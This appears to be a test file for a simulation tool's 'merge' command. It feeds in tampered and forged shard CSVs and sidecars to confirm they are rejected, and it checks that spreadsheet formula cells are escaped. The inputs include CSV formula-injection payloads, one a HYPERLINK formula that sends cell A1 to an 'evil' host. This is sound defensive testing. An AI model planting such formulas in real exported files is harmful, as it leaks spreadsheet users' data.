import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadScenarioAndModel } from "../../src/cli/scenarioInput.js";
import { InputError } from "../../src/errors.js";
import { errorRow, sealRow } from "../../src/sweep/columns.js";
import { csvLine } from "../../src/sweep/csvFile.js";
import { evaluatePoint, type PointOutcome, type PointTask } from "../../src/sweep/evaluate.js";
import { gridPoints, parseAxes } from "../../src/sweep/grid.js";
import { mergeSweeps } from "../../src/sweep/merge.js";
import { loadPoints, type SweepBase } from "../../src/sweep/pointScenario.js";
import { runSweep } from "../../src/sweep/runSweep.js";
import type { Shard } from "../../src/sweep/shard.js";
import type { PointRunner } from "../../src/sweep/workerPool.js";

// Shard files as another machine (or an attacker) hands them to `capsim merge`.
const ROOT = resolve(import.meta.dirname, "../..");
const CLI = join(ROOT, "dist/cli/main.js");
const dir = mkdtempSync(join(tmpdir(), "capsim-merge-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let outcome: PointOutcome;

/** One real simulation reused for every point: these tests are about the files, not the figures. */
const runner: PointRunner = {
  parallelism: 1,
  run: async (task: PointTask) => ({ ...outcome, index: task.index }),
  close: async () => {},
};

/** Writes shard `shard` of a sweep of `vary` to `name` (no shard: the whole grid). */
async function shardFile(name: string, vary: string, shard: Shard | null, replications = 1): Promise<string> {
  const { loaded, model } = loadScenarioAndModel(join(ROOT, "test/fixtures/sweep/small.yaml"), []);
  const axes = parseAxes([vary]);
  const base: SweepBase = { loaded, model, sets: [], axes, link: null };
  const outPath = join(dir, name);
  const points = loadPoints(base, gridPoints(axes));
  outcome ??= evaluatePoint({ index: 0, loaded: points[0]!.loaded, model, replications: 1, seed: 1 });
  await runSweep({
    base,
    points,
    shard,
    replications,
    seed: 1,
    outPath,
    resume: false,
    overwrite: true,
    runner,
  });
  return outPath;
}

const USERS = "workload.users=20,30,40,50,60";
let s1: string;
let s2: string;

beforeAll(async () => {
  s1 = await shardFile("s1.csv", USERS, { index: 1, count: 2 });
  s2 = await shardFile("s2.csv", USERS, { index: 2, count: 2 });
});

const issuesOf = (files: string[]): string => {
  try {
    mergeSweeps(files);
  } catch (error) {
    if (error instanceof InputError) return error.message;
    throw error;
  }
  return "";
};

/** s2 with its row of point `index` replaced by `edit` of its cells (resealed unless `seal` is false). */
function tampered(name: string, index: number, edit: (cells: string[]) => void, seal = true): string {
  const text = readFileSync(s2, "utf8");
  const lines = text.trimEnd().split("\n");
  const at = lines.findIndex((l) => l.startsWith(`${index},`));
  const cells = (parse(lines[at]!) as string[][])[0]!;
  edit(cells);
  lines[at] = csvLine(seal ? sealRow(cells.slice(0, -2), cells.at(-2)!) : cells).trimEnd();
  const out = join(dir, name);
  writeFileSync(out, `${lines.join("\n")}\n`);
  writeFileSync(`${out}.meta.json`, readFileSync(`${s2}.meta.json`));
  return out;
}

describe("capsim merge checks what it is given", () => {
  it("merges the shards of one sweep", () => {
    expect(issuesOf([s1, s2])).toBe("");
  });

  it("refuses a sidecar whose point count is forged, at its line and column, without walking it", () => {
    const meta = JSON.parse(readFileSync(`${s2}.meta.json`, "utf8"));
    meta.grid.points = 10_000_001;
    const forged = join(dir, "forged.csv");
    writeFileSync(forged, readFileSync(s2));
    writeFileSync(`${forged}.meta.json`, JSON.stringify(meta, null, 2));
    expect(issuesOf([s1, forged])).toMatch(
      /forged\.csv\.meta\.json:\d+:\d+: grid\.points: not a capsim sweep sidecar/,
    );
  });

  it("refuses a sidecar nested too deep to walk at its line and column (it overflowed the stack, exit 1)", () => {
    const deep = join(dir, "deep.csv");
    writeFileSync(deep, readFileSync(s2));
    const text = readFileSync(`${s2}.meta.json`, "utf8");
    writeFileSync(
      `${deep}.meta.json`,
      text.replace('"values": [', `"values": [${"[".repeat(100_000)}${"]".repeat(100_000)}, `),
    );
    expect(issuesOf([s1, deep])).toMatch(
      /deep\.csv\.meta\.json:\d+:\d+: not a capsim sweep sidecar: nested deeper than 64 levels/,
    );
  });

  it("refuses edited rows, parameters not the point's, and cells capsim never writes, at file:line", () => {
    const figure = tampered("figure.csv", 1, (c) => (c[2] = "999"), false);
    expect(issuesOf([s1, figure])).toMatch(/figure\.csv:2: row_sha256: edited/);
    const param = tampered("param.csv", 3, (c) => (c[1] = "41"));
    expect(issuesOf([s1, param])).toMatch(
      /param\.csv:3: param:workload\.users: "41" is not point 3's value, "50"/,
    );
    const formula = tampered("formula.csv", 1, (c) => {
      c[c.length - 3] = '=HYPERLINK("http://x")';
      c[c.length - 4] = "error";
    });
    expect(issuesOf([s1, formula])).toMatch(/formula\.csv:2: error: "=HYPERLINK/);
    const quote = join(dir, "quote.csv");
    writeFileSync(quote, readFileSync(figure, "utf8").replace("\n1,", '\n1,"'));
    writeFileSync(`${quote}.meta.json`, readFileSync(`${s2}.meta.json`));
    expect(issuesOf([s1, quote])).toMatch(/quote\.csv:2: not a CSV record: Quote Not Closed/);
    const figureText = tampered("text.csv", 1, (c) => (c[2] = "-cmd"));
    expect(issuesOf([s1, figureText])).toMatch(
      /text\.csv:2: coderd_cpu_vcpu_median@all:mean: "-cmd" is not a value/,
    );
  });

  it("refuses a file of more rows than a grid has points at the first one too many, parsing no further", () => {
    const [header, row] = readFileSync(s2, "utf8").split("\n");
    const long = join(dir, "long.csv");
    writeFileSync(long, `${header}\n${`${row}\n`.repeat(10_001)}`);
    writeFileSync(`${long}.meta.json`, readFileSync(`${s2}.meta.json`));
    expect(issuesOf([s1, long])).toMatch(/long\.csv:10002: more than 10000 points/);
  });

  it("refuses shards of different replications at the sidecar's line: exit 2, nothing written", async () => {
    const other = await shardFile("r2.csv", USERS, { index: 2, count: 2 }, 2);
    const out = join(dir, "merged.csv");
    const r = spawnSync(process.execPath, [CLI, "merge", s1, other, "-o", out], { encoding: "utf8" });
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(
      /r2\.csv\.meta\.json:\d+:\d+: replications: not the same sweep: 2 here, 1 in .*s1\.csv\.meta\.json/,
    );
    expect(existsSync(out)).toBe(false);
    expect(existsSync(`${out}.meta.json`)).toBe(false);
  });
});

describe("text cells a spreadsheet would run", () => {
  it("are written with a leading ', kept by --resume and accepted by merge; numbers stay numbers", async () => {
    const vary = 'name==HYPERLINK("http://evil/?"&A1),"@SUM(1)",+cmd,-cmd,plain';
    const out = await shardFile("formula.csv", vary, null);
    const rows = readFileSync(out, "utf8").trimEnd().split("\n").slice(1);
    expect(rows.map((r) => r.split(",")[1])).toEqual([
      `"'=HYPERLINK(""http://evil/?""&A1)"`,
      "'@SUM(1)",
      "'+cmd",
      "'-cmd",
      "plain",
    ]);
    expect(issuesOf([out])).toBe("");
    const { loaded } = loadScenarioAndModel(join(ROOT, "test/fixtures/sweep/small.yaml"), []);
    const row = errorRow(
      { index: 0, values: [{ text: "-1", value: -1 }] },
      { metrics: [], resources: [] },
      "=cmd",
    );
    expect(row).toEqual(["0", "-1", "", "", "error", "'=cmd"]);
    expect(loaded.scenario.name).toBe("sweep-small");
  });
});
